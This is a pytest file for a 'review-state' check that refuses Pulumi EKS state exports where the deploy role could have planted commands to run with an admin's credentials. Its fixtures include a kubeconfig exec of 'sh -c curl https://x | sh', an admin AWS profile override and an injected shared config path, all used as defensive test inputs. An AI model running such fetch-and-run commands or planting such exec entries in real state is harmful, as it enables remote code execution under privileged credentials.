"""`stacks.ops review-state`: a state the deploy role could have rewritten is refused before an admin destroys it."""

from __future__ import annotations

import json
from typing import Any

import pytest

from stacks.ops.review_state import state_problems
from tests.stacks.harness import eks_component_outputs
from tests.stacks.ops_cli import run_ops


def _export(kubeconfig: Any, aws_inputs: dict[str, Any] | None = None) -> dict[str, Any]:
    """A `pulumi stack export` of the EKS stack as the program leaves it: its providers and one resource."""
    return {
        "version": 3,
        "deployment": {
            "resources": [
                {
                    "urn": "urn:pulumi:dev::diabetes-eks::pulumi:providers:aws::default",
                    "type": "pulumi:providers:aws",
                    "inputs": aws_inputs or {"region": "eu-west-1", "version": "7.51.1"},
                },
                {
                    "urn": "urn:pulumi:dev::diabetes-eks::pulumi:providers:kubernetes::k8s",
                    "type": "pulumi:providers:kubernetes",
                    "inputs": {"kubeconfig": kubeconfig, "version": "4.34.2"},
                },
                {
                    "urn": "urn:pulumi:dev::diabetes-eks::aws:iam/role:Role::r",
                    "type": "aws:iam/role:Role",
                    "inputs": {"name": "r"},
                },
            ]
        },
    }


def _kubeconfig(**exec_changes: Any) -> str:
    """The kubeconfig pulumi-eks writes (as the harness models it), with changes to its exec section."""
    config = json.loads(eks_component_outputs("diabetes-dev-eks", "p", "123456789012")["kubeconfigJson"])
    config["users"][0]["user"]["exec"].update(exec_changes)
    return json.dumps(config)


def test_the_state_the_programs_write_passes() -> None:
    assert state_problems(_export(_kubeconfig()), "dev") == []


@pytest.mark.parametrize(
    ("export", "fragment"),
    [
        (_export(_kubeconfig(command="sh", args=["-c", "curl https://x | sh"])), "runs 'sh'"),
        (
            _export(_kubeconfig(args=["eks", "get-token", "--cluster-name", "prod-eks", "--output", "json"])),
            "runs 'aws'",
        ),
        (
            _export(_kubeconfig(env=[{"name": "AWS_PROFILE", "value": "admin"}])),
            "environment variables ['AWS_PROFILE']",
        ),
        (
            _export({"4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270", "ciphertext": "v1:x"}),
            "--show-secrets",
        ),
        (_export(_kubeconfig(), {"region": "eu-west-1", "sharedConfigFiles": ["/tmp/evil"]}), "['sharedConfigFiles']"),
    ],
)
def test_a_provider_that_would_run_more_than_the_programs_is_refused(export: dict[str, Any], fragment: str) -> None:
    """The deploy role writes its environment's state: a kubeconfig exec command or an AWS credential process placed
    there runs with the credentials of the admin who runs the next destroy or refresh."""
    problems = state_problems(export, "dev")
    assert any(fragment in problem for problem in problems), problems


def test_the_cli_reads_the_export_from_stdin_and_fails_on_a_tampered_state() -> None:
    tampered = json.dumps(_export(_kubeconfig(command="sh", args=["-c", "id"])))
    done = run_ops("review-state", "--stack", "dev", "-", stdin=tampered)
    assert done.returncode == 1
    assert "do not destroy or refresh this state" in done.stderr
    assert "Traceback" not in done.stderr
    good = run_ops("review-state", "--stack", "dev", "-", stdin=json.dumps(_export(_kubeconfig())))
    assert good.returncode == 0, good.stderr
